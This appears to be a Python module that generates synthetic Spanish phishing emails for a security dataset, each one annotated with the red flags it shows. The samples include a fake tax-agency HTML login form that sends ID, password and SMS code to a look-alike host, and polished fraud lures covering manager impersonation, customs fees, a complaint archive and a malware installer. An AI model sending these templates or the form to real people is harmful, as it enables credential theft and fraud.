"""Attack messages 27-31 (Spanish)."""

import infra as I
import data as D
import checks as C
from compose import Mail, alt, text, html, mixed, related, att_pdf, att_zip, att_text, png_qr, to_html
from mime import Multi
from world import S

MAILS = []
EG_CIF = C.es_cif("B", "9816402")


def add(**kw):
    MAILS.append(Mail(lang="es", folder="attack", **kw))


# 27 ------------------------------------------------------------------------
aeat_form = """<!DOCTYPE html>
<html lang="es"><head><meta charset="iso-8859-1"><title>Agencia Tributaria - Sede electr&oacute;nica - Notificaciones</title>
<style>body{font-family:Arial,sans-serif;background:#f0f0f0;margin:0}
.hd{background:#7a0c14;color:#fff;padding:14px 24px;font-size:18px}
.c{width:520px;margin:40px auto;background:#fff;padding:24px;border:1px solid #ccc}
label{display:block;margin-top:12px;font-size:13px}input{width:100%%;padding:7px;margin-top:4px}
.b{background:#7a0c14;color:#fff;border:0;padding:10px;margin-top:18px;cursor:pointer}</style></head>
<body><div class="hd">Agencia Tributaria &middot; Sede electr&oacute;nica</div>
<div class="c"><h3>Acceso a notificaci&oacute;n N.&ordm; 202699004117301Y</h3>
<p style="font-size:13px">Para visualizar el requerimiento debe identificarse como titular o representante de la entidad <b>%s</b>.</p>
<form method="post" action="https://sede-aeat-notifica.es/clave/validar.php">
<input type="hidden" name="ref" value="202699004117301Y">
<label>NIF / NIE del representante<input name="nif" type="text"></label>
<label>Contrase&ntilde;a Cl@ve Permanente<input name="pwd" type="password"></label>
<label>C&oacute;digo de verificaci&oacute;n recibido por SMS<input name="otp" type="text"></label>
<button class="b" type="submit">Acceder a la notificaci&oacute;n</button></form>
<p style="font-size:11px;color:#666">&copy; Agencia Estatal de Administraci&oacute;n Tributaria</p></div></body></html>
""" % EG_CIF
add(n=27, slug="aeat-notification-html-form",
    via=I.vps_postfix, via_kw=dict(helo="mail.sede-aeat-notifica.es", rdns="45-88-191-20.hosted-by-hostinger.io",
                                   ip="45.88.191.20", client_desc="localhost (localhost [127.0.0.1])",
                                   mid_style="phpmailer", order="esp", bstyle="phpmailer",
                                   mua=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]),
    frm=("Agencia Tributaria", "notificaciones@sede-aeat-notifica.es"), to=[S("es_acc")], hcs="iso-8859-1", henc="Q",
    subject="Notificación electrónica: requerimiento de información - Modelo 303, tercer trimestre 2026",
    date=(2026, 11, 2, 9, 41, 17), zone="ES",
    body=mixed(text("""Estimado/a contribuyente:

Le comunicamos que la Agencia Estatal de Administración Tributaria ha puesto a su disposición una notificación en la Dirección Electrónica Habilitada única (DEHú) relativa a la entidad con NIF %s.

Procedimiento: Requerimiento de información - Modelo 303 (IVA), periodo 3T 2026
Referencia: 202699004117301Y

Puede consultar el contenido de la notificación en el documento adjunto, que deberá abrir con su navegador e identificarse con Cl@ve.

Transcurridos diez días naturales desde la puesta a disposición sin que se acceda a su contenido, la notificación se entenderá rechazada y se considerará efectuada a todos los efectos (artículo 43 de la Ley 39/2015).

Atentamente,
Agencia Estatal de Administración Tributaria""" % EG_CIF, cs="iso-8859-1", cte="8bit"),
               att_text("text/html", "Notificacion_AEAT_202699004117301Y.html", aeat_form, cs="iso-8859-1", cte="base64",
                        note="HTML credential form (NIF, Cl@ve password, SMS code) posting to sede-aeat-notifica.es; no script")),
    what="Tax-office phishing with an HTML attachment: 'AEAT notification' whose attachment is a local login form for "
         "Cl@ve credentials and the SMS code",
    why="Look-alike sender sede-aeat-notifica.es on a Hostinger VPS sending with PHPMailer; AEAT notifications are only "
        "announced (DEHú / sede.agenciatributaria.gob.es), never delivered as HTML files; the form posts NIF, password "
        "and one-time code to the attacker; legal-deadline pressure.")

# 28 ------------------------------------------------------------------------
add(n=28, slug="manager-impersonation-whatsapp",
    via=I.gmail, frm=("Javier Martínez", "javier.martinez.direccion@gmail.com"), to=[S("es_acc")],
    subject="Un momento", date=(2026, 11, 26, 12, 3, 40), zone="ES", hcs="UTF-8", henc="B",
    body=alt("""Lucía, ¿estás en la oficina?

Necesito que me ayudes con un tema urgente y confidencial antes de las 14:00. Pásame tu número de móvil y te escribo por WhatsApp, estoy en una reunión con el notario y no puedo hablar.

Javier

Enviado desde mi iPhone""", cs="UTF-8", cte="quoted-printable", style="gmail"),
    what="BEC opener: the Valencia office manager (on Gmail) asks the accountant for her mobile number to continue on "
         "WhatsApp about an 'urgent, confidential' matter",
    why="Manager's display name on a free-mail address, secrecy, urgency, moving the conversation to an unmonitored "
        "channel; first step of CEO/manager fraud (payment or gift cards follow on WhatsApp).")

# 29 ------------------------------------------------------------------------
correos = "https://correos-aduanas-pago.com/es/envio/UA748219305ES/pago?c=ex"
CORREOS_TXT = """Correos · Aduanas

Estimado cliente:

Su envío internacional UA748219305ES procedente de China (remitente: Shenzhen Funeral Supplies Co.) se encuentra retenido en el Centro de Tratamiento Automatizado de Madrid-Barajas a la espera del pago de los aranceles de importación.

Importe pendiente: 2,99 €
Fecha límite: 17/10/2026

[[Pagar aranceles y programar la entrega|%s]]

Si el pago no se realiza antes de la fecha indicada, el envío será devuelto al remitente.

Gracias por confiar en Correos."""
add(n=29, slug="courier-customs-fee-compromised-wordpress",
    via=I.php_mail, via_kw=dict(host="cp41.servidoresweb-es.com", host_ip="185.211.7.54", user="lavelsol",
                                script="lavanderiaelsol.es/wp-content/plugins/wp-file-manager/lib/php/mailer.php",
                                client_ip="103.153.79.12", site="lavanderiaelsol.es"),
    frm=("Correos", "notificaciones@lavanderiaelsol.es"), to=[S("es_mgr")], hcs="utf-8", henc="B",
    subject="Su envío UA748219305ES está retenido en Aduanas – pago de aranceles pendiente",
    date=(2026, 10, 15, 18, 22, 3), zone="ES",
    body=Multi("alternative", [text(CORREOS_TXT % correos, cs="utf-8", cte="base64"),
                               related(html(to_html(CORREOS_TXT % correos, "news", "utf-8").replace(
                                   "Fecha límite: 17/10/2026</td></tr>",
                                   "Fecha límite: 17/10/2026</td></tr>\n<tr><td align=\"center\" style=\"padding:12px\">"
                                   "<img src=\"cid:qr-pago@correos\" width=\"160\" height=\"160\" alt=\"QR\"><br>"
                                   "<span style=\"font-size:12px;color:#666\">Pague desde su m&oacute;vil escaneando el c&oacute;digo</span></td></tr>"),
                                   cs="utf-8", cte="base64"),
                                       png_qr(correos + "&m=qr", name="qr_pago.png", cid="qr-pago@correos"))], None),
    what="Courier/customs phishing: 'Correos' asks for a €2.99 customs fee for a retained parcel via a look-alike page",
    why="Sent by a PHP mailer script on a compromised laundry's WordPress site (X-PHP-Script shows a file-manager "
        "plugin path); From domain unrelated to Correos; tiny fee to harvest card data; link and an inline QR code (for the phone) to correos-aduanas-pago.com.")

# 30 ------------------------------------------------------------------------
drive = "https://drive.google.com/file/d/1qT8vXr2LmZ0cKp4Wn7YbE3sJd9hFa6Uo/view?usp=sharing"
add(n=30, slug="family-complaint-drive-archive",
    via=I.exo, via_kw=dict(consumer=True, lang="es-ES"),
    frm=("Rosa María Sánchez", "rosamaria.sanchez61@hotmail.es"), to=[S("es_mgr")], hcs="iso-8859-1", henc="Q",
    subject="Queja formal por la entrega de las cenizas de mi padre", date=(2026, 11, 9, 21, 47, 30), zone="ES",
    body=alt("""Buenas noches:

Me dirijo a ustedes con mucha indignación. Las cenizas de mi padre, Antonio Sánchez Vidal, que fue incinerado en sus instalaciones la semana pasada, nos fueron entregadas en una urna con el precinto roto y sin el certificado de incineración que nos habían prometido. Además, en la placa el segundo apellido está mal escrito.

He subido las fotos de la urna, del precinto y de la factura a una carpeta para que lo puedan comprobar ustedes mismos:

[[Fotos_urna_y_factura.zip|%s]]

Quiero una explicación por escrito y una solución en un plazo de 48 horas. Si no recibo respuesta presentaré una hoja de reclamaciones ante Consumo y lo pondré en conocimiento de la OCU.

Rosa María Sánchez""" % drive, cs="iso-8859-1", cte="quoted-printable", style="outlook", lang="ES"),
    what="Emotional complaint lure: a 'bereaved daughter' complains about a broken urn seal and links a ZIP of 'photos' "
         "on Google Drive",
    why="No such cremation in the Valencia records (the office works for funeral homes, not directly for families); "
        "the evidence is an archive on Google Drive (abuse of a trusted file host) — the 2025–26 'complaint' campaigns "
        "deliver script loaders this way; deadline and reputational threat to force a quick click.")

# 31 ------------------------------------------------------------------------
vf = "https://verifactu-adaptacion.es/descarga/Conector_VeriFactu_v3.2.msi"
add(n=31, slug="verifactu-installer-lure",
    via=I.sendgrid, via_kw=dict(em_dom="em5519.verifactu-adaptacion.es"),
    frm=("Soporte VERI*FACTU", "soporte@verifactu-adaptacion.es"), to=[S("es_acc")], hcs="utf-8", henc="Q",
    subject="Obligatorio: adapte su software de facturación a VERI*FACTU antes del 1 de enero de 2027",
    date=(2026, 12, 1, 10, 5, 48), zone="ES",
    body=alt("""Estimado cliente:

A partir del 1 de enero de 2027 todos los sistemas informáticos de facturación de las sociedades deberán cumplir el Reglamento de requisitos de los sistemas de facturación (Real Decreto 1007/2023) y remitir los registros de facturación a la Agencia Tributaria en la modalidad VERI*FACTU.

Según nuestros registros, el programa de facturación instalado en su empresa todavía no dispone del conector certificado. Las facturas emitidas sin conector no incluirán el código QR obligatorio y podrán ser sancionadas con multas de hasta 50.000 € por ejercicio.

Descargue e instale el conector (Windows 10/11, 2 minutos):

[[Descargar Conector VERI*FACTU v3.2|%s]]

Una vez instalado, el conector se sincroniza automáticamente con la sede electrónica de la AEAT.

Un saludo,
Departamento de Soporte Técnico VERI*FACTU""" % vf, cs="utf-8", cte="8bit", style="news"),
    what="Regulatory-deadline lure: fake 'VERI*FACTU support' pushes an MSI 'connector' download before the 2027 "
         "e-invoicing deadline",
    why="Unsolicited vendor with a brand-new domain via SendGrid; VERI*FACTU is a software requirement, not a connector "
        "to download; the link is a Windows installer from the same look-alike domain (malware/RMM delivery); fines "
        "quoted to create fear.")
